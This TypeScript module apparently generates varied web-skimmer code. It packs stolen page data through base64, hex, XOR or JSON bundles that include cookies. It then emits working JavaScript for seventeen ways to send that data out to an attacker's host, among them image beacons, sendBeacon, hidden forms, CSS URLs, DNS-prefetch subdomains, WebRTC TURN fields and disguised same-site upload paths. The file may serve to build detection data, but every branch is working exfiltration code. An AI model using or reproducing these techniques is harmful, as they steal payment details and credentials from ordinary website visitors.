// Owns how a skimmer packs what it took, and how it gets it out of the page.
import type { Chance } from './random.ts'

export const packings = ['plain', 'base64', 'json', 'hex', 'xor', 'reversed', 'aes'] as const
export type Packing = (typeof packings)[number]

export const sendings = [
  'image',
  'fetch',
  'beacon',
  'xhr',
  'socket',
  'script',
  'hidden-form',
  'frame',
  'css',
  'prefetch',
  'redirect',
  'message',
  'event-source',
  'dns',
  'rtc',
  'jquery-ajax',
  'own-host',
] as const
export type Sending = (typeof sendings)[number]

/** An expression that packs the variable `value`. */
export function packed(way: Packing, value: string, chance: Chance): string {
  switch (way) {
    case 'base64':
      return `btoa(${chance.pick([value, `encodeURIComponent(${value})`, `unescape(encodeURIComponent(${value}))`])})`
    case 'json':
      return `encodeURIComponent(JSON.stringify({d:${value},h:location.${chance.pick(['hostname', 'href', 'host'])},${chance.pick(['t:Date.now()', 'u:navigator.userAgent', 'c:document.cookie'])}}))`
    case 'hex':
      return `String(${value}).split("").map(function(c){return c.charCodeAt(0).toString(16)}).join("")`
    case 'xor': {
      const key = chance.between(1, 200)
      return `btoa(String(${value}).split("").map(function(c){return String.fromCharCode(c.charCodeAt(0)^${key})}).join(""))`
    }
    case 'reversed':
      return `escape(String(${value}).split("").reverse().join(""))`
    default:
      return `encodeURIComponent(${value})`
  }
}

/** Statements that send the expression `data`; `address` is an expression for the host's address with a slash at its end. */
export function sendCode(way: Sending, data: string, address: string, chance: Chance): string {
  const [a, b] = [chance.name(), chance.name()]
  const key = chance.pick(['d', 'q', 'data', 'hash', 'id', 'p'])
  switch (way) {
    case 'image':
      return chance.pick([
        `new Image().src=${address}+"?${key}="+${data};`,
        `var ${a}=document.createElement("img");${a}.width=1;${a}.height=1;${a}.src=${address}+"?${key}="+${data};document.body.appendChild(${a});`,
      ])
    case 'fetch':
      return `fetch(${address},{method:"POST",${chance.pick(['mode:"no-cors",', ''])}body:${data}})${chance.pick(['', '.catch(function(){})'])};`
    case 'beacon':
      return `navigator.sendBeacon(${address},${data});`
    case 'xhr':
      return `var ${a}=new XMLHttpRequest();${a}.open("POST",${address},true);${a}.setRequestHeader("Content-type","application/x-www-form-urlencoded");${a}.send("${key}="+${data});`
    case 'socket':
      return `var ${a}=new WebSocket(${address}.replace("https","wss"));${a}.onopen=function(){${a}.send(${data})};`
    case 'script':
      return `var ${a}=document.createElement("script");${a}.src=${address}+"j.js?${key}="+${data};document.head.appendChild(${a});`
    case 'hidden-form':
      return `var ${a}=document.createElement("form");${a}.method="POST";${a}.action=${address};${a}.target="${b}";var ${b}=document.createElement("input");${b}.name="${key}";${b}.value=${data};${a}.appendChild(${b});document.body.appendChild(${a});${a}.submit();`
    case 'frame':
      return `var ${a}=document.createElement("iframe");${a}.style.display="none";${a}.src=${address}+"?${key}="+${data};document.body.appendChild(${a});`
    case 'css':
      return `var ${a}=document.createElement("div");${a}.style.backgroundImage="url("+${address}+"?${key}="+${data}+")";document.body.appendChild(${a});`
    case 'prefetch':
      return `var ${a}=document.createElement("link");${a}.rel="${chance.pick(['prefetch', 'stylesheet', 'preload'])}";${a}.href=${address}+"?${key}="+${data};document.head.appendChild(${a});`
    case 'redirect':
      return `window.location=${address}+"?${key}="+${data};`
    case 'message':
      return `var ${a}=document.createElement("iframe");${a}.src=${address};${a}.onload=function(){${a}.contentWindow.postMessage(${data},"*")};document.body.appendChild(${a});`
    case 'event-source':
      return `new EventSource(${address}+"?${key}="+${data});`
    case 'dns':
      return `var ${a}=document.createElement("link");${a}.rel="dns-prefetch";${a}.href="//"+String(${data}).slice(0,60)+"."+${address}.split("/")[2];document.head.appendChild(${a});`
    case 'rtc':
      return `var ${a}=new RTCPeerConnection({iceServers:[{urls:"turn:"+${address}.split("/")[2],username:String(${data}),credential:"x"}]});${a}.createDataChannel("c");${a}.createOffer().then(function(${b}){${a}.setLocalDescription(${b})});`
    case 'jquery-ajax':
      return `jQuery.ajax({url:${address},type:"POST",data:{${key}:${data}},crossDomain:true});`
    default:
      return `fetch("/media/${chance.pick(['catalog/product/cache/1.jpg', 'wysiwyg/logo.png', 'tmp/upload.php'])}",{method:"POST",body:${data}});`
  }
}
